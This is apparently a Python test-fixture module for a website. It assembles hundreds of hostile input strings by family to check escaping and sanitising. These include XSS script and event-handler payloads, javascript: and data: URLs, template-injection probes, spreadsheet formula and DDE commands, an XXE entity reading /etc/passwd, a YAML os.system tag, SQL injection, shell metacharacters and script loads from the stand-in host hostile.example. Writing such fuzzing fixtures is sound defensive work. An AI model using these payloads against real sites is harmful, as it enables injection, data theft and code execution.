"""Hostile strings by family, to be put into every text of the data.

The families are those that the OWASP cheat sheet on filter evasion names, and those of the formats
that this site writes; every string is put together here. A string that runs sets `window.injected`,
one that loads something asks `https://hostile.example/`.
"""

from __future__ import annotations

from itertools import product

RUN = "window.injected=1"
HOST = "https://hostile.example/x"


def _script_elements() -> list[str]:
    openings = [
        "<script>",
        "<SCRIPT>",
        "<ScRiPt>",
        "<script >",
        "<script/x>",
        "<script type=module>",
        "<script async>",
        "<script type='text/javascript'>",
        "<<script>",
        "<script\n>",
        "<svg><script>",
        "<math><script>",
        "<noscript><script>",
        "<template><script>",
        "<xmp><script>",
    ]
    closings = ["</script>", "</script >", "</SCRIPT/x>", ""]
    inline = [opening + RUN + closing for opening, closing in product(openings, closings[:2])]
    return [
        *inline,
        *(f"<script>{RUN}{closing}" for closing in closings[2:]),
        f"<script src={HOST}.js></script>",
        "<script src='//hostile.example/x.js'></script>",
        f"<script/src={HOST}.js></script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</article></main><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"<!--><script>{RUN}</script>-->",
        f"]]><script>{RUN}</script>",
        f"<script>/*</script><script>*/{RUN}</script>",
        f"<link rel=preload as=script href={HOST}.js>",
        f"<link rel=stylesheet href={HOST}.css>",
        f"<base href={HOST}/>",
        f"<meta http-equiv=refresh content='0;url={HOST}'>",
        f"<style>@import '{HOST}.css';</style>",
        f"<style>*{{background:url({HOST})}}</style>",
    ]


def _event_attributes() -> list[str]:
    elements = {
        "img src=x": "onerror",
        "body": "onload",
        "video src=x": "onerror",
        "audio src=x": "onerror",
        "details open": "ontoggle",
        "input autofocus": "onfocus",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "button autofocus": "onfocus",
        "iframe": "onload",
        "object data=x": "onerror",
        "embed src=x": "onerror",
        "marquee": "onstart",
        "a href=x autofocus": "onfocus",
        "div tabindex=0 autofocus": "onfocus",
        "p contenteditable autofocus": "onfocus",
        "form": "onsubmit",
        "table": "onmouseover",
        "isindex": "onfocus",
        "dialog open": "onclose",
        "source": "onerror",
        "style": "onload",
        "link rel=stylesheet href=x": "onerror",
        "blink": "onmouseover",
    }
    writings = [
        "<{element} {event}={run}>",
        '<{element} {event}="{run}">',
        "<{element}/{event}={run}//",
        "<{element} {upper}='{run}' x>",
    ]
    return [
        writing.format(element=element, event=event, upper=event.upper(), run=RUN)
        for (element, event), writing in product(elements.items(), writings)
    ]


def _vector_and_mathematical_markup() -> list[str]:
    return [
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<svg><g onload={RUN}></g></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributename=x>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
        f"<svg><image href={HOST} onerror={RUN}></svg>",
        f"<svg><use href='{HOST}#x'></use></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
        f"<svg><style>@import url({HOST})</style></svg>",
        f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    ]


def _addresses() -> list[str]:
    targets = [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A;avascript&colon;{RUN}",
        f"javascript&#58;{RUN}",
        f"javascript://%0a{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaW5qZWN0ZWQ9MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={RUN}>",
        f"feed:javascript:{RUN}",
        f"view-source:{HOST}",
        "file:///etc/passwd",
        f"blob:{HOST}",
        f"//hostile.example/{RUN}",
    ]
    writings = ["{0}", "<a href='{0}'>x</a>", "[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x]: {0} 'x'"]
    return [writing.format(target) for target, writing in product(targets, writings)]


def _characters_and_entities() -> list[str]:
    return [
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"&#x3C;script&#x3E;{RUN}&#x3C;/script&#x3E;",
        f"&#0000060script>{RUN}</script>",
        f"&ltscript&gt{RUN}&lt/script&gt",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u02c2img src=x onerror={RUN}\u02c3",
        f"<\u0131mg src=x onerror={RUN}>",
        f"<\u017fcript>{RUN}</\u017fcript>",
        "Z\u0351\u036b\u0343\u036a\u0302\u0302a\u0352lgo \u0337\u0336text",
        "\U0001f1e9\U0001f1ea \U0001f468\u200d\U0001f469\u200d\U0001f467 family",
        "\U000e0001\U000e0041 language tag",
        "\ufdfd wide",
        "outside the basic plane \U0001f4a9",
        "line\u2028separator",
        "line\u2029separator",
        "zero\u200bwidth",
        "soft\u00adhyphen",
        "byte\ufefforder",
        "nul\x00byte",
        "bell\x07",
        "escape\x1b[31m red",
        "delete\x7f",
        "next\x85line",
        "user \u202egnp.exe",
        "user \u202aembedded",
        "user \u202boverride",
        "user \u2066isolate\u2069",
        "user \u061cmark",
        "not a character \uffff",
    ]


def _template_syntax() -> list[str]:
    return [
        "{{ 7 * 7 }}",
        "{{7*'7'}}",
        "{% if true %}x{% endif %}",
        "{# hidden #}",
        "{{ config }}",
        "{{ self }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ dataset.site.name }}",
        "{{ site }}",
        "{{ scales }}",
        "{{ contact }}",
        "{% include 'claim.html.jinja' %}",
        "{% raw %}{{ x }}{% endraw %}",
        "{{ cycler.__init__.__globals__ }}",
        "{%- set x = 1 -%}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[ 7*7 ]]",
        "{{#x}}x{{/x}}",
        "%(name)s",
        "{0}",
        "{name!r}",
        "$name",
        "--8<-- 'data/site.yml'",
        "{: onclick=window.injected=1 }",
        "{: .fc-hidden style=display:none }",
        "[TOC]",
        "[[wiki]]",
    ]


def _markdown() -> list[str]:
    return [
        f"*<img src=x onerror={RUN}>*",
        f"**bold <svg onload={RUN}> bold**",
        f"`code <script>{RUN}</script>`",
        f"```\n<script>{RUN}</script>\n```",
        f"    <script>{RUN}</script>",
        f"> <script>{RUN}</script>",
        f"- <script>{RUN}</script>",
        f"1. <img src=x onerror={RUN}>",
        f"# <script>{RUN}</script>",
        f"| a | b |\n|---|---|\n| <script>{RUN}</script> | b |",
        f'[x](javascript:{RUN} "title")',
        f'[x](https://ok.example "onmouseover={RUN}")',
        f"[x](https://ok.example'onmouseover={RUN})",
        f'[x](https://ok.example ""onmouseover="{RUN}")',
        f"[<img src=x onerror={RUN}>](https://ok.example)",
        f"[x][y]\n\n[y]: javascript:{RUN}",
        f'[y]: https://ok.example "<script>{RUN}</script>"\n\n[y]',
        f"![<script>{RUN}</script>]({HOST}.png)",
        f'![x]({HOST}.png ""onerror="{RUN}")',
        f"<javascript:{RUN}>",
        f'<a href="javascript:{RUN}">x</a>',
        f"<div markdown=1>\n<script>{RUN}</script>\n</div>",
        f"\\<script>{RUN}\\</script>",
        f"&amp;lt;script&amp;gt;{RUN}",
        "[^no-such-source]",
        "[x](claim:../../../etc/passwd)",
        "[x](source:no-such-source)",
        '[x](claim:"onmouseover=window.injected=1)',
        "***" * 40,
        "[" * 60 + "x" + "](y)" * 60,
        "`" * 61,
        "_" * 80,
    ]


def _attribute_breaking() -> list[str]:
    attacks = [
        f"onmouseover={RUN}",
        f"autofocus onfocus={RUN}",
        f"style=background:url({HOST})",
        f"><img src=x onerror={RUN}>",
        f"><script>{RUN}</script>",
        f"/onload={RUN}",
        "formaction=javascript:window.injected=1 ",
    ]
    return [quote + " " + attack + " " + quote for quote, attack in product(('"', "'", "`"), attacks)]


def _data_formats() -> list[str]:
    return [
        # JSON inside a script element
        f"</script><script>{RUN}</script>",
        "<!--<script>",
        "<!--",
        "-->",
        "]]>",
        "\\u003c/script>",
        '"}</script>{"',
        '"}],"x":[{"',
        "\\",
        '\\"',
        "__proto__",
        "constructor.prototype",
        # spreadsheets
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        f'=HYPERLINK("{HOST}","x")',
        f'=IMPORTXML("{HOST}","//a")',
        "=1+1;",
        "\t=1+1",
        '"=1+1"',
        "'=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(1)",
        "\n=1+1",
        "\r=1+1",
        "x,=1+1",
        'x"\n=1+1',
        # XML
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "&e;",
        "&undefined;",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<?php echo 1 ?>",
        "<xi:include href='file:///etc/passwd'/>",
        "&#0;",
        "&#xD800;",
        "<x:y/>",
        "]]&gt;",
        # YAML
        "!!python/object/apply:os.system ['true']",
        "&anchor x",
        "*alias",
        "<<: *x",
        "--- x",
        "%YAML 1.2",
        "key: value",
        "- item",
        "? key",
        "| literal",
        "> folded",
        "# comment",
        "@reserved",
        # SQL
        "'; DROP TABLE claims; --",
        "' OR '1'='1",
        '"; ATTACH DATABASE',
        "x'); DELETE FROM claims; --",
        "%' --",
        # citations
        "}, author = {x",
        "\\input{/etc/passwd}",
        "\\write18{true}",
        "@article{x,",
        '{\\"o}',
        "$\\badness$",
        "100% & #1_x^2 ~",
        # paths, addresses and shells
        "../../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "//hostile.example",
        "\\\\hostile.example\\x",
        "CON",
        "x\n../y",
        "$(true)",
        "`true`",
        "; true",
        "| true",
        "&& true",
        "%0d%0aSet-Cookie: x",
        "::error file=x::y",
        "@everyone",
        "#1",
    ]


FAMILIES: dict[str, list[str]] = {
    "script elements": _script_elements(),
    "event attributes": _event_attributes(),
    "SVG and MathML": _vector_and_mathematical_markup(),
    "addresses": _addresses(),
    "characters and entities": _characters_and_entities(),
    "template syntax": _template_syntax(),
    "Markdown": _markdown(),
    "attribute breaking": _attribute_breaking(),
    "data formats": _data_formats(),
}

LONE_SURROGATES = ["\ud800", "before \udfff after"]
"""Halves of a character, which no file in UTF-8 can hold, and so none of the families does."""

HOSTILE = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
